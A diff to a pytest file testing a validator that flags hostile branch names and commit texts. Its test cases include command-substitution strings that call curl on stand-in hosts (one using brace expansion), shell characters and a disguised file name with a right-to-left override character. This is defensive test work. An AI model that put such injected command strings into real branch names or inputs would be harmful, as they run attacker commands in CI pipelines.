@@ -29,8 +29,13 @@ def test_texts_of_one_template_have_one_shape() -> None:
         ("dependabot/npm_and_yarn/@acme/pay-1.2.3", []),
         ("a$(curl evil.example)", ["a program to run", "command substitution"]),
         ("a;b", ["shell characters"]),
+        ("gh-readonly-queue/main/pr-12-" + "0f" * 20, []),
+        (
+            "x-$({curl,-sSfL,x.example/" + "bSry9" * 8 + "})",
+            ["a program to run", "command substitution", "brace expansion", "encoded run"],
+        ),
         ("release/a-${debug}", ["variable"]),
-        ("x" * 100, ["encoded run", "very long"]),
+        ("x" * 100, ["very long"]),
     ],
 )
 def test_names_written_to_hurt(name: str, odd: list[str]) -> None:
@@ -43,7 +48,8 @@ def test_names_written_to_hurt(name: str, odd: list[str]) -> None:
     [
         ("Fix rounding & taxes; see #12", []),
         ("use `git rebase` & retry", []),
-        ("`curl x.example` please", ["a program to run"]),
+        ("try $(curl x.example)", ["a program to run"]),
+        ("| node | python |\n(python 3.11) sha256 " + "ab" * 32 + " OK", []),
         ("ship it [skip ci]", ["skips CI"]),
         ("admin\u202egpj.exe", ["invisible characters"]),
     ],
